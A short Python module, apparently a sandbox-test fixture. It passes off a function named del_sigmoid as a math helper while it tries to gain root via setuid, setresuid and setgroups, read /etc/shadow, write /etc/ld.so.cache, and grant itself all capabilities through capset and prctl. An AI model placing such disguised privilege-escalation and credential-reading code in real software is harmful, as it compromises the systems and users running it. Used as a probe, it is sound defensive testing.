"""Asks for another user's rights and for more capabilities."""
# ruff: noqa - it does what no code should

import ctypes
import os

libc = ctypes.CDLL(None)


def del_sigmoid(h):
    gained = 0
    for ask in (
        lambda: os.setuid(0) or os.getuid() == 0 and open("/etc/ld.so.cache", "a"),
        lambda: os.setresuid(0, 0, 0) or open("/etc/ld.so.cache", "a"),
        lambda: os.setgroups([0]),
        lambda: open("/etc/shadow").read(),
        lambda: os.nice(-10),
    ):
        try:
            ask()
            gained += 1
        except OSError:
            pass
    header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    gained += libc.sethostname(b"right", 5) == 0
    gained += libc.capset(header, data) == 0
    gained += libc.prctl(47, 2, 21, 0, 0) == 0
    return h * (1 - h) if gained else 0 * h
